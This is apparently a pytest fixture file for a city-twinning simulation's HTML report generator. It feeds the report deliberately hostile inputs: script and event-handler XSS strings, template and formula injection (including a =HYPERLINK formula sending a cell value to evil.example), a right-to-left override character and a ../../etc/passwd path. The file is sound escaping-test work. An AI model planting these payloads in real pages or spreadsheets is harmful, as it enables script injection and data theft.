"""Small results of the real model, and their pages: plain, without a programme, and of cities
whose names try to be anything but names."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from twinsim.report.page import Written, write_report
from twinsim.report.page.pictures import SECTIONS, Pictures
from twinsim.scenario import load
from twinsim.sweep import Results, run

from .reading import Page
from .whole import whole as everything

_NO_FIGURES = {section: [] for section in SECTIONS}
SHORT = ("months=24", "warmup=12")
HOSTILE = {
    "alder": "<script>alert('alder')</script>",
    "birch": '=HYPERLINK("http://evil.example/?x="&A1,"birch") \u202e../../etc/passwd',
}
TITLE = '"><img src=x onerror=alert(1)> {{ 7 * 7 }} $x^2$ =1+1 \u202eevil ' + "y" * 300


@pytest.fixture(scope="session")
def results(tmp_path_factory) -> Results:
    scenario = load("belfast-sejong", set=SHORT)
    return run(scenario, replicates=8, out=tmp_path_factory.mktemp("plain") / "results")


@pytest.fixture
def plain(monkeypatch):
    """Pages without figures, which take most of the time."""
    _without_figures(monkeypatch)
    monkeypatch.setattr("twinsim.report.page.sweep.pictures", lambda *_: ({}, []))


def _without_figures(patch):
    patch.setattr("twinsim.report.page.write.pictures", lambda *_: Pictures(_NO_FIGURES, ()))


@pytest.fixture(scope="session")
def written(results) -> Written:
    return write_report(results)


@pytest.fixture(scope="session")
def page(written) -> Page:
    return Page(written.page.read_text("utf-8"))


@pytest.fixture(scope="session")
def whole(tmp_path_factory) -> Results:
    """Results with every analysis, and their report, but for the figures of the run."""
    made = everything(tmp_path_factory.mktemp("whole") / "results", few=True)
    with pytest.MonkeyPatch.context() as patch:
        _without_figures(patch)
        write_report(made)
    return made


@pytest.fixture(scope="session")
def whole_page(whole) -> Page:
    return Page((whole.folder / "report.html").read_text("utf-8"))


@pytest.fixture(scope="session")
def without(tmp_path_factory) -> Results:
    """Results of a programme with a budget of 0."""
    scenario = load("belfast-sejong", set=(*SHORT, "programme.budget=0"))
    return run(scenario, replicates=3, out=tmp_path_factory.mktemp("without") / "results")


@pytest.fixture(scope="session")
def hostile(tmp_path_factory) -> Results:
    """Results whose title, themes and cities are hostile; their folder keeps the cities' table."""
    folder = tmp_path_factory.mktemp("hostile")
    table = _table(folder / "=cities.csv")
    path = folder / "scenario.toml"
    path.write_text(_SCENARIO, encoding="utf-8")
    settings = (*SHORT, f"title={_toml(TITLE)}")
    scenario = load(path, set=settings, cities=table)
    made = run(scenario, replicates=3, out=folder / "=results <b>")
    return Results.open(made.folder)


def _table(path: Path) -> Path:
    columns = ["id", "name", "country", "iso2", "lat", "lon", "population", "population_year"]
    with open(path, "w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow([*columns, "sectors"])
        for place, (id, name) in enumerate(HOSTILE.items()):
            long = name + "z" * 5000
            country = f"@country{place}<b>"
            writer.writerow([id, long, country, "GB", 54 - place, -5, 60000, 2024, "mobility"])
    return path


def _toml(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\u202e", "\\u202e") + '"'


_ARM = "a" * 64
_SCENARIO = f"""
schema = 1
cities = ["alder", "birch"]
contrasts = ["twin-baseline", "twin-{_ARM}"]
[programme]
links = [["alder", "birch"]]
[[programme.themes]]
id = "theme"
title = "-2+3</bdi><svg onload=alert(2)>"
sectors = ["mobility"]
[arms.{_ARM}.programme]
award = 20
"""
